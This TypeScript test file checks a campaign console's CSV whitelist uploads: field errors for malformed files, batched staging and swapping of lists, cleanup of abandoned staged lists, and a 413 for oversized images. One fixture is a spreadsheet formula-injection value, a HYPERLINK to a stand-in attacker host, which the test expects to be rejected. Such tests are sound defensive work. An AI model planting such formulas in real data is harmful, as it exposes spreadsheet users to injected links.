import { mkdtempSync, rmSync } from 'node:fs';
import { request } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testConfig } from '../../config';
import { own } from '../../db/owners';
import { activityYaml, campaignActions } from '../../testing/campaign';
import {
  CONSOLE_HOST,
  CONSOLE_ORIGIN,
  type ConsoleClient,
  consoleSignIn,
  DEMO_CONSOLE,
  seedConsole,
} from '../../testing/console';
import { dialects, startTestApp, type TestApp } from '../../testing/harness';
import * as repo from './repo';

// Issue 32: malformed CSV lists answer field errors (never 500), a list is staged in short transactions and
// swapped in (customers do not wait for it), and an upload over its limit gets 413 文件过大 on a real socket.

const kinds = await dialects();
const HOUR = 3_600_000;
/** upload-list.ts STAGE_BATCH: rows per staging transaction. */
const STAGE_BATCH = 500;

/** 200 KB of bytes that look random but are the same every run. */
function noise(size: number): Buffer {
  const out = Buffer.alloc(size);
  let x = 0x2545f491;
  for (let i = 0; i < size; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out[i] = x & 0xff;
  }
  return out;
}

const MALFORMED: [string, Buffer, Record<string, unknown> | null][] = [
  [
    'a quote inside a field',
    Buffer.from('nuid,mobile\nC"1,13800000001\n'),
    { '2:nuid': expect.stringContaining('客户号只能含') },
  ],
  [
    'an unclosed quote',
    Buffer.from('nuid,mobile\nok1,13800000001\n"C1,13800000002\nC2,13800000003\n'),
    { '3:nuid': expect.stringContaining('引号未闭合') },
  ],
  ['200 KB of random bytes', noise(200 * 1024), null],
  [
    'a formula as the customer id',
    Buffer.from('nuid,mobile\n=HYPERLINK("http://evil.example/?q=1"),13800000001\n'),
    { '2:nuid': expect.stringContaining('客户号只能含') },
  ],
];

describe.each(kinds)('list uploads on %s', (kind) => {
  let t: TestApp;
  let op: ConsoleClient;
  let id: string;
  let firstList: string;
  const banners = mkdtempSync(join(tmpdir(), 'lab-lists-'));
  const { publish, login, draw } = campaignActions(() => t);
  beforeAll(async () => {
    t = await startTestApp(kind, { config: testConfig({ bannerDir: banners }) });
    await seedConsole(t);
    op = await consoleSignIn(t, DEMO_CONSOLE.operator);
    const created = (await op.post('/console/campaigns/create', { kind: 'wheel', title: '名单' })).json();
    id = created.data.id;
    const first = (await upload(`/console/campaigns/white-list?id=${id}`, csv(3, 'old'))).json();
    expect(first).toMatchObject({ code: 0, data: { rows: 3 } });
    firstList = first.data.listId;
  }, 120_000);
  afterAll(async () => {
    await t?.close();
    rmSync(banners, { recursive: true, force: true });
  });

  const upload = (path: string, bytes: Buffer, type = 'text/csv') =>
    t.app.inject({
      method: 'POST',
      url: `/bmcs/api${path}&corpId=demo`,
      headers: {
        host: CONSOLE_HOST,
        origin: CONSOLE_ORIGIN,
        cookie: op.cookie,
        'x-csrf-token': op.csrf,
        'content-type': type,
      },
      payload: bytes,
    });
  const csv = (rows: number, prefix: string, tail = '') => {
    const lines = ['客户号,手机号'];
    for (let i = 1; i <= rows; i++) lines.push(`${prefix}${i},1${String(3800000000 + i).padStart(10, '0')}`);
    return Buffer.from(`${lines.join('\n')}\n${tail}`);
  };
  /** Every list and row stored, as they are now. */
  const stored = async () => ({
    lists: await t.database.db.selectFrom('campaign_list').select(['id', 'rows', 'state']).orderBy('id').execute(),
    entries: await t.database.db
      .selectFrom('campaign_list_entry')
      .select(['list_id', 'nuid', 'mobile'])
      .orderBy('list_id')
      .orderBy('nuid')
      .execute(),
  });
  const lab = () => own('campaign-lab', t.database.db);
  const onList = (listId: string, nuid: string) => repo.onList(lab(), 'demo', listId, { nuid, mobile: null });

  it.each(['whiteList', 'cgroup'])(
    'four malformed CSVs as a %s: each a line: field: message, nothing stored',
    async (k) => {
      const before = await stored();
      for (const [what, bytes, fields] of MALFORMED) {
        const res = await upload(`/console/campaigns/white-list?id=${id}&kind=${k}`, bytes);
        const r = res.json();
        expect([res.statusCode, r.code], what).toEqual([200, 6408]);
        // The summary names the line and the column by its label (客户号, 手机号, 表头), never nuid:/mobile:.
        expect(r.data, what).toMatch(/\d+ 处错误：第 \d+ 行 (客户号|手机号|表头|文件|第 \d+ 列)：/);
        expect(r.data, what).not.toMatch(/\d+: (nuid|mobile):/);
        if (fields) expect(r.fields, what).toEqual(fields);
        for (const key of Object.keys(r.fields)) expect(key, what).toMatch(/^\d+:\S+$/);
        expect(await stored(), what).toEqual(before);
      }
      expect(await onList(firstList, 'old1')).toBe(true);
    },
  );

  it('a list is staged, invisible, then swapped in; customers draw meanwhile without waiting for it', async () => {
    await publish(
      activityYaml('lab-list-draws', {
        prizes:
          '      - { id: thanks, name: 谢谢, kind: thanks, image: /prizes/thanks.svg, weight: 1, consolation: true }',
        chances: '{ perDay: 1000 }',
      }),
    );
    const cookie = await login();
    const rows = 20 * STAGE_BATCH;
    let done = false;
    const started = performance.now();
    const uploading = upload(`/console/campaigns/white-list?id=${id}`, csv(rows, 'new')).finally(() => {
      done = true;
    });
    // While it is stored: its rows are committed batch by batch under a staged list that no reader takes.
    let seenStaged: { id: string; entries: number; exists: boolean } | null = null;
    const waits: number[] = [];
    while (!done) {
      const asked = performance.now();
      expect((await draw(cookie, 'lab-list-draws')).json().code).toBe(0);
      waits.push(performance.now() - asked);
      await new Promise((r) => setTimeout(r, 60)); // under the per-session draw rate
      const staged = await t.database.db
        .selectFrom('campaign_list')
        .select('id')
        .where('state', '=', 'staging')
        .executeTakeFirst();
      if (staged && !seenStaged) {
        const n = await t.database.db
          .selectFrom('campaign_list_entry')
          .select((eb) => eb.fn.countAll<number>().as('n'))
          .where('list_id', '=', staged.id)
          .executeTakeFirstOrThrow();
        const exists = (await repo.listOf(lab(), 'demo', staged.id)) !== undefined;
        seenStaged = { id: staged.id, entries: Number(n.n), exists };
      }
    }
    const r = (await uploading).json();
    const took = performance.now() - started;
    expect(r).toMatchObject({ code: 0, data: { rows } });
    expect(seenStaged).toMatchObject({ id: r.data.listId, exists: false });
    expect(seenStaged?.entries).toBeGreaterThan(0);
    expect(await onList(r.data.listId, `new${rows}`)).toBe(true);
    expect(await onList(firstList, 'old1')).toBe(true);
    // Under one long transaction a draw waited for most of the upload; now for a batch at most. (Relative to the
    // upload's time, as the machine running the tests may be busy; bench:white-list has the absolute figures.)
    expect(waits.length).toBeGreaterThan(3);
    expect(Math.max(...waits)).toBeLessThan(took / 3);
  }, 60_000);

  it('a failed upload deletes what it staged; a staged list whose upload died is swept by the next upload', async () => {
    const counts = () =>
      t.database.db
        .selectFrom('campaign_list_entry')
        .select((eb) => ['list_id', eb.fn.countAll<number>().as('n')])
        .groupBy('list_id')
        .orderBy('list_id')
        .execute();
    const before = [(await stored()).lists, await counts()];
    const failed = await upload(`/console/campaigns/white-list?id=${id}`, csv(3 * STAGE_BATCH, 'bad', 'x y,12\n'));
    expect(failed.json()).toMatchObject({
      code: 6408,
      fields: { [`${3 * STAGE_BATCH + 2}:nuid`]: expect.any(String) },
    });
    expect([(await stored()).lists, await counts()]).toEqual(before);

    const staging = (listId: string, at: number) =>
      t.database.db
        .insertInto('campaign_list')
        .values({
          corp_id: 'demo',
          id: listId,
          campaign_id: id,
          kind: 'whiteList',
          rows: 0,
          encoding: 'utf-8',
          sha256: '',
          created_at: at,
          created_by: 'x',
          state: 'staging',
        })
        .execute();
    await staging('dead', t.clock.now - 2 * HOUR);
    await staging('running', t.clock.now - 60_000);
    await t.database.db
      .insertInto('campaign_list_entry')
      .values(['dead', 'running'].map((l) => ({ corp_id: 'demo', list_id: l, nuid: 'z1', mobile: null })))
      .execute();
    expect((await upload(`/console/campaigns/white-list?id=${id}`, csv(2, 'next'))).json().code).toBe(0);
    const after = await stored();
    expect(after.lists.map((l) => l.id)).not.toContain('dead');
    expect(after.entries.filter((e) => e.list_id === 'dead')).toEqual([]);
    expect(after.lists.find((l) => l.id === 'running')).toMatchObject({ state: 'staging' });
  });

  it('an image over 2 MiB is answered 413 文件过大 in the envelope, received over a real socket', async () => {
    await t.app.listen({ port: 0, host: '127.0.0.1' });
    const { port } = t.app.server.address() as AddressInfo;
    const size = 3 * 1024 * 1024;
    const answer = await new Promise<{ status: number; body: string }>((resolve, reject) => {
      const req = request(
        {
          host: '127.0.0.1',
          port,
          method: 'POST',
          path: '/bmcs/api/console/uploads/image?corpId=demo',
          headers: {
            host: CONSOLE_HOST,
            origin: CONSOLE_ORIGIN,
            cookie: op.cookie,
            'x-csrf-token': op.csrf,
            'content-type': 'image/png',
            'content-length': size,
          },
        },
        (res) => {
          let body = '';
          res.setEncoding('utf8');
          res.on('data', (c) => {
            body += c;
          });
          res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
          res.on('error', reject);
        },
      );
      req.on('error', reject);
      const chunk = Buffer.alloc(64 * 1024, 1);
      let sent = 0;
      const more = () => {
        while (sent < size) {
          sent += chunk.length;
          if (!req.write(chunk)) return void req.once('drain', more);
        }
        req.end();
      };
      more();
    });
    expect(answer.status).toBe(413);
    expect(JSON.parse(answer.body)).toEqual({ code: 6407, data: '文件过大：不得超过 2 MiB' });
  });
});
